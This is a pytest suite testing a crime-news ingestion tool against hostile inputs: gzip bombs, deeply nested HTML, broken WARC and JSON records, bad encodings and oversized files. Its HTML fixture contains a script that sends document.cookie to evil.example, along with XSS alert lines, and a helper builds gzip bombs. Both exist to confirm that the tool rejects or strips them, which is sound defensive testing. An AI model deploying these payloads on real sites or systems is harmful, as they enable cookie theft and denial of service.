"""Hostile input: the real `crimewire ingest` CLI (a subprocess, a real SQLite file) on a folder
of broken, oversized and malicious files mixed with good articles.

Every good article is stored with the events it has when ingested on its own; every bad input
gets one `error:` line naming its file (and line, record or entry) and the reason, and a row in
`ingest_errors`; the exit status is 1; the database passes `PRAGMA integrity_check`; a second
run stores nothing twice.
"""

from __future__ import annotations

import gzip
import json
import os
import sqlite3
import subprocess
import sys
import uuid
from pathlib import Path

import pytest

from crimewire.api import extract_files
from crimewire.records import ArticleResult, ReadError
from crimewire.settings import Settings

CRIMEWIRE = Path(sys.executable).with_name("crimewire")

# --------------------------------------------------------------------------- good articles (our own text)

GOOD_TXT = """date 2024-03-12

Police arrested twelve suspected members of the Tren de Aragua in Lima on Monday, the Interior
Ministry said in a statement. Officers also seized four pistols and a rifle during the raids.
"""

NO_DATE_TXT = """Soldiers seized 300 kilograms of cocaine from a speedboat off the coast of Tumaco, the
Colombian navy said. Two crew members were detained and handed over to prosecutors.
"""

# Mojibake: UTF-8 text that was once decoded as Latin-1/cp1252 and encoded again.
MOJIBAKE_TXT = (
    "date 2024-06-04\n\n"
    + "La policía detuvo a cinco presuntos integrantes del Cártel Jalisco Nueva Generación en Querétaro "
    "el martes, informó la fiscalía estatal.\n".encode().decode("cp1252")
)

FUTURE_TXT = """date 2150-01-01

Police in Quito arrested seven men accused of extorting shopkeepers in the city centre on
Wednesday, the national police said.
"""

ANCIENT_TXT = """date 1850-06-01

Federal agents arrested three men suspected of laundering money for the Sinaloa Cartel in
Tijuana on Thursday, prosecutors said.
"""

PAGE = """<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><title>Navy seizes cocaine</title>
<meta property="article:published_time" content="2024-02-20T10:00:00Z">
<script>window.stolen = document.cookie; fetch("https://evil.example/?c=" + window.stolen);</script>
</head><body><nav><a href="/">Home</a></nav>
<article><h1>Navy seizes cocaine off the Pacific coast</h1>
<script>document.write("INJECTED SCRIPT TEXT arrested 999 people");</script>
<p>The Ecuadorian navy seized 2.5 tonnes of cocaine from a fishing boat off the coast of Manta on
Sunday and arrested four crew members, the defence ministry said on Monday.</p>
<p>The drugs were hidden under a false floor in the hold, officials said.</p>
</article><script>alert("xss")</script></body></html>
"""

WARC_PAGE = """<html lang="es"><head><title>Rescatan a secuestrados</title></head><body><article>
<h1>Rescatan a 14 personas secuestradas en Zacatecas</h1>
<p>Elementos de la Guardia Nacional rescataron este lunes a 14 personas que permanecían secuestradas
en una casa de seguridad en Fresnillo, Zacatecas, e detuvieron a tres presuntos captores, informó la
fiscalía estatal.</p></article></body></html>
"""

FEED = """<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0"><channel><title>Frontier Daily</title><link>https://frontier.example</link>
<item><title>Three held for extortion</title><link>https://frontier.example/n/1</link>
<pubDate>Tue, 05 Mar 2024 21:30:00 -0600</pubDate>
<description><![CDATA[<p>Municipal police arrested three men accused of extorting traders at the central
market in Ciudad Juárez on Tuesday.</p><script>alert(1)</script>]]></description></item>
<item><title>Empty</title><link>https://frontier.example/n/2</link><description></description></item>
</channel></rss>
"""

GOOD_JSON_LINE = {
    "id": "jsonl-good",
    "text": "Police in Guayaquil arrested nine members of Los Choneros on Friday, the interior minister said.",
    "date": "2024-04-05",
}


# --------------------------------------------------------------------------- building the folder


def _warc_record(url: str, html: bytes) -> bytes:
    http = b"HTTP/1.1 200 OK\r\nContent-Type: text/html; charset=utf-8\r\nContent-Length: %d\r\n\r\n" % len(html)
    block = http + html
    head = (
        "WARC/1.0\r\nWARC-Type: response\r\n"
        f"WARC-Record-ID: <urn:uuid:{uuid.UUID(int=len(url))}>\r\n"
        "WARC-Date: 2024-02-21T00:00:00Z\r\n"
        f"WARC-Target-URI: {url}\r\nContent-Type: application/http; msgtype=response\r\n"
        f"Content-Length: {len(block)}\r\n\r\n"
    )
    return head.encode() + block + b"\r\n\r\n"


GOOD_WARC = _warc_record("https://news.example/zacatecas", WARC_PAGE.encode())
# A record whose headers are broken: no number for its length, a date of binary bytes.
BROKEN_WARC_RECORD = (
    b"WARC/1.0\r\nWARC-Type: response\r\nContent-Length: many\r\nWARC-Date: \x00\xff\r\n\r\nnot a record\r\n\r\n"
)


def _gzip_bomb(path: Path, unit: bytes, members: int) -> None:
    """A gzip file of ``members`` identical members, each ``unit`` compressed: tiny on disk, huge unpacked."""
    member = gzip.compress(unit, compresslevel=9)
    with path.open("wb") as f:
        for _ in range(members):
            f.write(member)


def build_folder(folder: Path) -> dict[str, str]:
    """Write the hostile folder; return {origin suffix of each bad input: words its reason must contain}.

    A suffix ending in ``*`` stands for any line number.
    """
    folder.mkdir()
    (folder / "good.txt").write_text(GOOD_TXT, encoding="utf-8")
    (folder / "nodate.txt").write_text(NO_DATE_TXT, encoding="utf-8")
    (folder / "mojibake.txt").write_text(MOJIBAKE_TXT, encoding="utf-8")
    (folder / "page.html").write_text(PAGE, encoding="utf-8")
    (folder / "feed.rss").write_text(FEED, encoding="utf-8")
    (folder / "future.txt").write_text(FUTURE_TXT, encoding="utf-8")
    (folder / "ancient.txt").write_text(ANCIENT_TXT, encoding="utf-8")

    (folder / "empty.txt").write_bytes(b"")
    (folder / "binary.txt").write_bytes(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + os.urandom(4096))
    latin1 = "date 2024-01-02\n\nLa policía detuvo a tres hombres en Cádiz."
    (folder / "latin1.txt").write_bytes(latin1.encode("latin-1"))
    # Mostly UTF-8, with one cp1252 curly quote pasted in: invalid UTF-8, never guessed at.
    (folder / "mixed.txt").write_bytes(
        "Los agentes de la policía detuvieron a dos hombres.".encode() + b" \x93Fue r\xe1pido\x94, dijo."
    )
    # A 50 MB "article": read no further than max_article_bytes.
    sentence = b"Police arrested two men in Lima on Monday after a raid on a warehouse. "
    with (folder / "huge.txt").open("wb") as f:
        for _ in range(50 * 2**20 // len(sentence) + 1):
            f.write(sentence)
    # Gzip bombs: 1 GiB unpacked from ~1 MB each. Blank lines in JSON Lines are skipped, so only
    # the decompression limit stops that one; the text one stops at the article limit.
    _gzip_bomb(folder / "bomb.jsonl.gz", b"\n" * 2**24, 64)
    _gzip_bomb(folder / "bomb.txt.gz", b"a" * 2**24, 64)
    # Nested 5,000 deep (libxml2 would silently drop what lies below depth 256).
    para = "<p>Police arrested five men in Lima on Monday after a raid on a warehouse in the port.</p>"
    (folder / "deep.html").write_text(
        "<html><body>" + "<div>" * 5000 + para + "</div>" * 5000 + "</body></html>", encoding="utf-8"
    )
    (folder / "crawl.warc").write_bytes(GOOD_WARC + BROKEN_WARC_RECORD)
    lines = [
        json.dumps(GOOD_JSON_LINE),
        '{"id": "t5", "text": 5}',
        '{"id": "d1", "text": "Police arrested two men in Lima.", "date": [1]}',
        "[1, 2, 3]",
        '"just a string"',
        '{"id": "broken", "text": ',
        '{"id": true, "text": "Police arrested two men in Lima."}',
        "[" * 100_000 + "]" * 100_000,
        '{"id": "big-number", "text": "x", "count": ' + "9" * 5000 + "}",
    ]
    (folder / "records.jsonl").write_text("\n".join(lines) + "\n", encoding="utf-8")
    return {
        "empty.txt": "empty file",
        "binary.txt": "binary file",
        "latin1.txt": "invalid UTF-8 at byte 25",
        "mixed.txt": "invalid UTF-8 at byte",
        "huge.txt": "max_article_bytes",
        "bomb.jsonl.gz:*": "max_decompressed_bytes",  # stopped at the line it was reading
        "bomb.txt.gz": "max_article_bytes",
        "deep.html": "max_html_depth",
        "crawl.warc#record-2": "broken WARC record at byte",
        "records.jsonl:2": "field 'text' is a number",
        "records.jsonl:3": "field 'date' is a list",
        "records.jsonl:4": "not a JSON object",
        "records.jsonl:5": "not a JSON object",
        "records.jsonl:6": "broken JSON on line 6",
        "records.jsonl:7": "field 'id' is true/false",
        "records.jsonl:8": "nested too deeply",
        "records.jsonl:9": "cannot be read",
        "feed.rss#entry-2": "feed entry with no text",
        "future.txt": "publication date 2150-01-01 rejected (in the future)",
        "ancient.txt": "publication date 1850-06-01 rejected (before 1900)",
    }


GOOD_FILES = ("good.txt", "nodate.txt", "mojibake.txt", "page.html", "feed.rss", "future.txt", "ancient.txt")
# What the good files hold, by article id; future/ancient are stored with the date unknown.
GOOD_IDS = {"good", "nodate", "mojibake", "page", "future", "ancient", "jsonl-good"}


def matches(folder: Path, suffix: str, origin: str) -> bool:
    """Whether ``origin`` is the input ``suffix`` names (``x.jsonl:*``: any line of x.jsonl)."""
    if suffix.endswith("*"):
        rest = origin.removeprefix(str(folder / suffix[:-1]))
        return rest != origin and rest.isdigit()
    return origin == str(folder / suffix)


def ingest(folder: Path, db: Path, settings: Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [str(CRIMEWIRE), "ingest", str(folder), "--db", str(db), "--settings", str(settings)],
        capture_output=True,
        text=True,
        timeout=600,
        env={**os.environ, "COLUMNS": "250"},  # rich wraps error lines at the terminal width
    )


def table(db: Path, sql: str) -> list[tuple]:
    with sqlite3.connect(db) as conn:
        return conn.execute(sql).fetchall()


@pytest.fixture(scope="module")
def run(tmp_path_factory: pytest.TempPathFactory) -> dict:
    base = tmp_path_factory.mktemp("hostile")
    folder = base / "in"
    expected = build_folder(folder)
    # Every limit at its default except the decompression one, lowered so that the bomb is
    # stopped after 64 MiB instead of 2 GiB (the mechanism is the same; the test is faster).
    settings = base / "settings.toml"
    settings.write_text("[crimewire]\nmax_decompressed_bytes = 67108864\n", encoding="utf-8")
    db = base / "cw.db"
    first = ingest(folder, db, settings)
    snapshot = {
        "articles": table(db, "SELECT id, content_hash, result_hash FROM articles ORDER BY id"),
        "events": table(db, "SELECT count(*) FROM events")[0][0],
        "errors": table(db, "SELECT origin, position, reason FROM ingest_errors ORDER BY id"),
    }
    second = ingest(folder, db, settings)
    return {"folder": folder, "db": db, "expected": expected, "first": first, "second": second, "snapshot": snapshot}


def test_exit_status_is_1_and_every_bad_input_has_one_line(run: dict) -> None:
    first = run["first"]
    assert first.returncode == 1, first.stderr[-3000:]
    lines = [line for line in first.stderr.splitlines() if line.startswith("error:")]
    for suffix, word in run["expected"].items():
        mine = [line for line in lines if matches(run["folder"], suffix, line.split(": ")[1])]
        assert len(mine) == 1, (suffix, lines)
        assert word in mine[0], (suffix, mine[0])
    assert len(lines) == len(run["expected"]), "\n".join(lines)


def test_good_articles_are_stored_with_the_events_they_have_alone(run: dict, tmp_path: Path) -> None:
    db = run["db"]
    count = "SELECT id, (SELECT count(*) FROM events e WHERE e.article_id = a.id) FROM articles a"
    stored = dict(table(db, count))
    # Besides the named ones: the feed's one entry with text and the WARC's one good record.
    assert set(stored) >= GOOD_IDS and len(stored) == len(GOOD_IDS) + 2, stored
    # The same good inputs alone, through the same pipeline: the same events per article.
    alone = tmp_path / "alone"
    alone.mkdir()
    for name in GOOD_FILES:
        (alone / name).write_bytes((run["folder"] / name).read_bytes())
    (alone / "records.jsonl").write_text(json.dumps(GOOD_JSON_LINE) + "\n", encoding="utf-8")
    (alone / "crawl.warc").write_bytes(GOOD_WARC)
    reference = {
        item.article.id: len(item.events)
        for item in extract_files([alone], Settings())
        if isinstance(item, ArticleResult)
    }
    assert stored == reference
    assert all(n > 0 for n in stored.values()), stored


def test_articles_are_repaired_or_kept_with_the_date_unknown(run: dict) -> None:
    rows = dict(table(run["db"], "SELECT id, published FROM articles"))
    assert rows["future"] is None and rows["ancient"] is None and rows["nodate"] is None
    assert rows["good"] == "2024-03-12" and rows["mojibake"] == "2024-06-04"
    [raw] = table(run["db"], "SELECT raw_text FROM articles WHERE id = 'mojibake'")[0]
    assert "Querétaro" in raw and "Cártel" in raw and "Ã" not in raw
    [clean_raw] = table(run["db"], "SELECT raw_text FROM articles WHERE id = 'nodate'")[0]
    assert clean_raw == NO_DATE_TXT.strip()  # clean text is left exactly as written


def test_scripts_are_never_kept_as_text(run: dict) -> None:
    texts = " ".join(r[0] + r[1] for r in table(run["db"], "SELECT raw_text, clean_text FROM articles"))
    for leftover in ("document.cookie", "INJECTED SCRIPT", "alert(", "evil.example"):
        assert leftover not in texts
    assert "2.5 tonnes of cocaine" in texts  # the page itself was read


def test_every_bad_input_is_logged_with_its_position(run: dict) -> None:
    folder = run["folder"]
    logged = {(origin, position): reason for origin, position, reason in run["snapshot"]["errors"]}
    assert len(logged) == len(run["expected"])
    for suffix, word in run["expected"].items():
        mine = [(k, r) for k, r in logged.items() if matches(folder, suffix, k[0])]
        assert len(mine) == 1 and word in mine[0][1], (suffix, logged)
    positions = {origin.removeprefix(str(folder) + "/"): position for origin, position in logged}
    assert positions["records.jsonl:3"] == "line 3"
    [bomb] = [(o, p) for o, p in positions.items() if o.startswith("bomb.jsonl.gz:")]
    assert bomb[1] == "line " + bomb[0].split(":")[1] and int(bomb[0].split(":")[1]) > 60_000_000
    assert positions["feed.rss#entry-2"] == "entry 2"
    assert positions["crawl.warc#record-2"] == f"record 2 at byte {len(GOOD_WARC)}"
    assert positions["latin1.txt"] == "byte 25"
    assert positions["huge.txt"] is None


def test_database_is_intact_and_a_second_run_stores_nothing_twice(run: dict) -> None:
    db = run["db"]
    assert table(db, "PRAGMA integrity_check") == [("ok",)]
    assert table(db, "PRAGMA foreign_key_check") == []
    assert run["second"].returncode == 1
    assert "stored 0 new or changed article(s)" in run["second"].stderr
    snapshot = run["snapshot"]
    assert table(db, "SELECT id, content_hash, result_hash FROM articles ORDER BY id") == snapshot["articles"]
    assert table(db, "SELECT count(*) FROM events")[0][0] == snapshot["events"]
    assert table(db, "SELECT origin, position, reason FROM ingest_errors ORDER BY id") == snapshot["errors"]


def test_an_article_over_the_time_limit_is_reported_and_the_rest_go_on(tmp_path: Path) -> None:
    """With a limit no article can meet, every article is reported and none stored; the run ends normally."""
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "good.txt").write_text(GOOD_TXT, encoding="utf-8")
    (folder / "nodate.txt").write_text(NO_DATE_TXT, encoding="utf-8")
    settings = tmp_path / "settings.toml"
    settings.write_text("[crimewire]\nmax_seconds_per_article = 0.0\n", encoding="utf-8")
    db = tmp_path / "cw.db"
    done = ingest(folder, db, settings)
    assert done.returncode == 1, done.stderr[-2000:]
    lines = [line for line in done.stderr.splitlines() if line.startswith("error:")]
    assert len(lines) == 2 and all("max_seconds_per_article" in line for line in lines), lines
    assert table(db, "SELECT count(*) FROM articles") == [(0,)]
    assert len(table(db, "SELECT * FROM ingest_errors")) == 2


def test_gzip_bomb_stops_at_the_limit_in_the_reader(tmp_path: Path) -> None:
    """The bounded reader on its own: the bomb unpacks to 1 GiB, reading stops just past 1 MiB."""
    from crimewire.readers import read_file

    bomb = tmp_path / "bomb.jsonl.gz"
    _gzip_bomb(bomb, b" " * 2**24, 64)
    items = list(read_file(bomb, Settings(max_decompressed_bytes=2**20)))
    assert [type(i) for i in items] == [ReadError]
    assert "more than 1,048,576 bytes once decompressed" in items[0].reason
